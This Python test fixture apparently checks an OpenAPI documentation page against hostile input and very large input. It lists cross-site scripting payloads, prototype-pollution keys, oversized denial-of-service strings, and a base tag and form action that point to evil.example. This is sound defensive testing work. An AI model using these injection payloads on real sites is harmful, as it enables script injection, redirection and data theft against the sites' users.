"""Documents beside the sample: one that attacks the page, one that is large."""

PAYLOADS = [
    "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "\"><svg onload=window.pwned=1>",
    "[x](javascript:window.pwned=1)", "[x](data:text/html,<script>window.pwned=1</script>)", "<javascript:window.pwned=1>",
    "![x](x\" onerror=window.pwned=1)", "`</code><script>window.pwned=1</script>`", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "[x](java\tscript:window.pwned=1)", "[x](&#106;avascript:window.pwned=1)", "{{constructor.constructor('window.pwned=1')()}}",
    "<base href=//evil.example>", "<style>*{display:none}</style>", "<form action=//evil.example><button>x", "</script><script>window.pwned=1",
    "${window.pwned=1}", "__proto__", "constructor", "[" * 5000, "*_" * 5000, "`" * 3000, "<http://" + "a" * 3000, "> " * 2000 + "x",
    "| a | b |\n|" + "-|" * 500 + "\n" + "|" * 3000, "- " * 2000, "\ud800", "\u202e\u0000\ufeff\u2028", "https://example.com/\"onmouseover=\"window.pwned=1",
]


def hostile_document(naughty):
    """Every string that the page shows is a payload."""
    texts = PAYLOADS + naughty
    everything = "\n\n".join(texts)
    schemas = {text[:300]: {"title": text, "description": text, "type": text[:50], "format": text, "pattern": text, "default": text,
                            "enum": [text], "example": text, "$ref": text, "properties": {text[:300]: {"description": text, "type": "string"}}}
               for text in PAYLOADS}
    schemas["__proto__"] = {"properties": {"__proto__": {"properties": {"polluted": {"const": 1}}}, "polluted": {"default": 1}},
                            "required": ["__proto__"], "allOf": [{"properties": {"__proto__": {"default": {"polluted": 1}}}}]}
    paths = {}
    for index, text in enumerate(PAYLOADS):
        paths["/" + text[:200]] = {"get" if index % 2 else "post": {
            "operationId": f"attack{index}" if index % 3 else text[:200], "summary": text, "description": text, "tags": [text[:200]],
            "externalDocs": {"url": "javascript:window.pwned=1", "description": text},
            "parameters": [{"name": text[:200], "in": "query", "required": True, "description": text, "example": text, "schema": {"type": "string", "enum": [text, "b"]}},
                           {"name": "__proto__", "in": "query", "style": "deepObject", "schema": {"type": "object"}, "example": {"__proto__": {"polluted": 1}}}],
            "requestBody": {"description": text, "content": {"application/json": {"schema": {"$ref": "#/components/schemas/__proto__"}, "example": text},
                                                             text[:100]: {"example": text}}},
            "responses": {"200": {"description": text, "headers": {text[:100]: {"description": text}}, "links": {text[:100]: {"operationId": text}},
                                  "content": {text[:100]: {"example": text}, "application/json": {"schema": {"oneOf": [{"$ref": text}, {"title": text}], "discriminator": {"propertyName": text, "mapping": {text: text}}}}}},
                          text[:50]: {"description": text}},
            "servers": [{"url": "javascript:window.pwned=1//", "description": text}, {"url": "/api", "description": text}, {"url": text}],
            "security": [{text: []}],
        }}
    return {
        "openapi": "3.1.0",
        "info": {"title": PAYLOADS[0], "version": PAYLOADS[1], "summary": PAYLOADS[2], "description": everything,
                 "termsOfService": "javascript:window.pwned=1", "contact": {"name": PAYLOADS[0], "url": "javascript:window.pwned=1", "email": "x\"onclick=window.pwned=1"},
                 "license": {"name": PAYLOADS[0], "url": "data:text/html,<script>window.pwned=1</script>"}},
        "servers": [{"url": "javascript:window.pwned=1", "description": everything[:5000]}],
        "externalDocs": {"url": "vbscript:x", "description": PAYLOADS[0]},
        "tags": [{"name": text[:200], "description": text} for text in PAYLOADS],
        "paths": paths,
        "components": {"schemas": schemas, "securitySchemes": {
            text[:200]: {"type": "oauth2", "description": text, "flows": {text[:100]: {"authorizationUrl": "javascript:window.pwned=1", "scopes": {text[:100]: text}}}}
            for text in PAYLOADS}},
    }


def large_document(count):
    operations = {}
    for index in range(count):
        operations[f"/things/{index}/{{id}}"] = {"get": {
            "operationId": f"operation{index}", "summary": f"Operation {index}", "tags": [f"group {index // 25}"], "description": "Something. " * 20,
            "parameters": [{"name": "id", "in": "path", "required": True, "schema": {"type": "integer"}}],
            "responses": {"200": {"description": "Fine", "content": {"application/json": {"schema": {"$ref": f"#/components/schemas/Thing{index}"}}}}}}}
    # Each refers to ten others: an example that followed all of them would never end.
    schemas = {f"Thing{index}": {"type": "object", "properties": {
        f"field{other}": {"$ref": f"#/components/schemas/Thing{(index * 7 + other * 13 + 1) % count}"} for other in range(10)}} for index in range(count)}
    return {"openapi": "3.1.0", "info": {"title": "Large", "version": "1"}, "paths": operations, "components": {"schemas": schemas}}
